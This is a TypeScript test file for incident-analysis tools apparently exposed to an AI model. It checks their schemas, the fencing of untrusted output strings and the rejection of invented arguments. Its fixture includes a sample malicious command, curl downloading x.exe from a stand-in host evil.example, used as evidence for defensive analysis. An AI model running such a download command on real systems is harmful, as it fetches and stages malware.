import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { fenceUntrustedFields } from '../../policy/untrusted/fence-untrusted.ts';
import {
  ANALYSIS_TOOLS,
  BUILD_PROCESS_TREE_TOOL,
  BUILD_TIMELINE_TOOL,
  EXTRACT_IOCS_TOOL,
} from './analysis-tools.ts';
import { evidenceEvent, spawn } from './testing/evidence-builder.ts';

const events = [
  spawn({
    id: 'e1',
    parent: { uid: 'P', name: 'cmd.exe' },
    child: { uid: 'C', name: 'curl.exe', cmdline: 'curl -o x.exe http://evil.example/x.exe' },
  }),
  evidenceEvent({
    id: 'e2',
    type: 'File Creation',
    process: { uid: 'C', name: 'curl.exe' },
    target: { file: { path: 'C:\\Users\\ann\\Downloads\\x.exe' } },
  }),
];

function valueAt(root: unknown, path: string): unknown {
  let node = root;
  for (const match of path.matchAll(/([^.[\]]+)|\[(\d+)\]/g)) {
    const key = match[2] === undefined ? match[1] : Number(match[2]);
    node = (node as Record<string | number, unknown> | undefined)?.[key as string];
  }
  return node;
}

describe('ANALYSIS_TOOLS', () => {
  it('offers the five functions under model-safe names with JSON-representable schemas', () => {
    expect(ANALYSIS_TOOLS.map((tool) => tool.name)).toEqual([
      'build_timeline',
      'build_process_tree',
      'extract_iocs',
      'map_techniques',
      'pack_evidence',
    ]);
    for (const tool of ANALYSIS_TOOLS) {
      expect(z.toJSONSchema(tool.input, { io: 'input', unrepresentable: 'any' })).toMatchObject({
        type: 'object',
      });
      expect(tool.description.length).toBeGreaterThan(40);
    }
  });

  it('returns output its own schema accepts', () => {
    for (const tool of ANALYSIS_TOOLS) {
      const output = (tool.run as (input: unknown) => unknown)({ events });
      expect((tool.output as z.ZodType).safeParse(output).success, tool.name).toBe(true);
    }
  });

  it('points its untrusted paths at strings in the output, ready to fence', () => {
    const outputs = [
      [BUILD_TIMELINE_TOOL.untrusted, BUILD_TIMELINE_TOOL.run({ events })],
      [BUILD_PROCESS_TREE_TOOL.untrusted, BUILD_PROCESS_TREE_TOOL.run({ events })],
      [EXTRACT_IOCS_TOOL.untrusted, EXTRACT_IOCS_TOOL.run({ events })],
    ] as const;

    for (const [untrusted, output] of outputs) {
      const paths = (untrusted as (value: unknown) => string[])(output);
      const strings = paths.filter((path) => typeof valueAt(output, path) === 'string');
      expect(strings.length).toBeGreaterThan(0);
      const fenced = fenceUntrustedFields(output, strings);
      const fencedValues = strings.map((path) => String(valueAt(fenced, path)));
      expect(fencedValues.every((value) => value.startsWith('⟦untrusted'))).toBe(true);
    }
  });

  it('rejects arguments a model made up', () => {
    expect(() => BUILD_TIMELINE_TOOL.run({ events, isolateEverything: true } as never)).toThrow(
      'invalid input for buildTimeline',
    );
  });
});
